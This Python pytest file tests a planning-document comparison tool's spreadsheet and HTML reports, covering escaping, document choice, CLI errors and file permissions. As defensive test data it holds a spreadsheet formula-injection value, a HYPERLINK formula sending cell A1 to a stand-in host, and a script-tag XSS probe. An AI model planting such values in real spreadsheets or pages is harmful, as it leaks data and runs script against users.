"""Review findings on the comparison workbook: plan text must stay text (no formulas, no links)."""

import os

import openpyxl
import pandas as pd

from reja.compare import compare, write_xlsx

HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'


def test_plan_text_in_compare_xlsx_is_never_a_formula_or_a_link(tmp_path):
    rows = [
        dict(document_id="d1", source_file="jondor_2025.docx", page=1, region="Buxoro viloyati",
             district="Jondor", year=2025, section_no="I", section_id=None, item_no="1", text=HOSTILE,
             indicator_id=None, unit="nusxa", unit_id=None, fact_year=2024, fact_value=None, plan_year=2025,
             plan_value=3.0, flags="", status="ok"),
        dict(document_id="d1", source_file="jondor_2025.docx", page=1, region="Buxoro viloyati",
             district="Jondor", year=2025, section_no="I", section_id=None, item_no="2",
             text="http://x.invalid/kitob", indicator_id=None, unit="nusxa", unit_id=None, fact_year=2024,
             fact_value=None, plan_year=2025, plan_value=4.0, flags="", status="ok"),
    ]
    result = compare(pd.DataFrame(rows))
    assert HOSTILE in set(result.unaligned["text"])
    path = write_xlsx(result, tmp_path / "compare.xlsx")
    ws = openpyxl.load_workbook(path)["Unaligned"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in (HOSTILE, "http://x.invalid/kitob")]
    assert len(cells) == 2
    for cell in cells:
        assert cell.data_type == "s", cell.value  # a string, not a formula ("f")
        assert cell.hyperlink is None


def test_plan_text_in_compare_html_is_escaped():
    """compare.html is mailed and opened in a browser without any CSP: a district's text must not
    become markup or script (the template is compare.html.j2, which select_autoescape(["html"])
    did not match)."""
    from reja.compare import render_html

    hostile = "<script>alert(1)</script> kitob"
    rows = [dict(document_id="d1", source_file="<b>jondor</b>.docx", page=1, region="Buxoro viloyati",
                 district="Jondor", year=2025, section_no="I", section_id=None, item_no="1", text=hostile,
                 indicator_id=None, unit="nusxa", unit_id=None, fact_year=2024, fact_value=None,
                 plan_year=2025, plan_value=3.0, flags="", status="ok")]
    html = render_html(compare(pd.DataFrame(rows)))
    assert "alert(1)" in html  # the text is there …
    assert "<script>" not in html and "<b>jondor</b>" not in html  # … as text


def _row(doc, plan_value, status, district_id="1706246"):  # Jondor tumani in the gazetteer
    return dict(document_id=doc, source_file=f"{doc}.docx", page=1, region="Buxoro viloyati", district="Jondor",
                district_id=district_id,
                year=2025, section_no="I", section_id=None, item_no="9", text="Fond to'ldirish",
                indicator_id="acq_total", unit="nusxa", unit_id="copy", fact_year=2024, fact_value=None,
                plan_year=2025, plan_value=plan_value, flags="" if status == "ok" else "stacked_values: 1 2",
                status=status)


def test_two_documents_of_one_plan_the_cleaner_is_compared_and_the_note_says_why():
    """document_id is a hash: sorting it picks a document at random, yet the note called it 'the
    newest'. The choice must follow a stated rule (the smallest share of flagged rows, as the store
    does for versions sent together) and the note must not claim what it did not check."""
    rows = [_row("e3b0c442a1", 1750.0, "ok"), _row("ffa91d0c77", 17501750.0, "flagged")]
    result = compare(pd.DataFrame(rows), indicator_names={"acq_total": "Fond"}, catalogue_size=10)
    assert result.values["plan_value"].tolist() == [1750.0]
    assert len(result.notes) == 1
    assert "newest" not in result.notes[0]
    assert "e3b0c442a1" in result.notes[0] and "ffa91d0c77" in result.notes[0]
    assert "flagged" in result.notes[0]


def test_compare_into_an_out_that_is_a_file_is_a_clear_error(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    import reja.api
    import reja.compare.align
    from reja.cli import app

    rows = [_row("e3b0c442a1", 1750.0, "ok")]
    monkeypatch.setattr(reja.api, "load_items", lambda db, **_selection: pd.DataFrame(rows))
    monkeypatch.setattr(reja.compare.align, "catalogue_names", lambda: ({"acq_total": "Fond"}, 10))
    db = tmp_path / "reja.sqlite"
    db.write_bytes(b"")  # exists; its content is not read (load_items is replaced above)
    not_a_folder = tmp_path / "compare.txt"
    not_a_folder.write_text("a file")
    result = CliRunner().invoke(app, ["compare", "--db", str(db), "--out", str(not_a_folder)])
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)
    assert "compare.txt" in result.output and "cannot write" in result.output


def test_compare_files_get_the_permissions_a_new_file_gets(tmp_path):
    """mkstemp makes 0600: an analyst on another account could not open the report."""
    from reja.compare import write_html, write_xlsx

    old = os.umask(0o022)
    try:
        result = compare(pd.DataFrame([_row("d1", 5.0, "ok")]))
        for path in (write_html(result, tmp_path / "c.html"), write_xlsx(result, tmp_path / "c.xlsx")):
            assert path.stat().st_mode & 0o777 == 0o644, path
    finally:
        os.umask(old)


def test_two_unplaced_documents_with_one_written_name_stay_two_plans():
    """Neither document's district was identified: "Jondor" as written is no identity. Summing them
    or dropping one would guess; each stands alone, labelled apart, its value its own."""
    rows = [_row("aa11", 1750.0, "ok", district_id=None), _row("bb22", 900.0, "ok", district_id=None)]
    result = compare(pd.DataFrame(rows), indicator_names={"acq_total": "Fond"}, catalogue_size=10)
    assert result.notes == []
    assert sorted(result.values["plan_value"]) == [900.0, 1750.0]
    labels = sorted(result.plans["plan"])
    assert len(set(labels)) == 2 and all("Jondor 2025" in label for label in labels)
    assert any("aa11" in label for label in labels) and any("bb22" in label for label in labels)
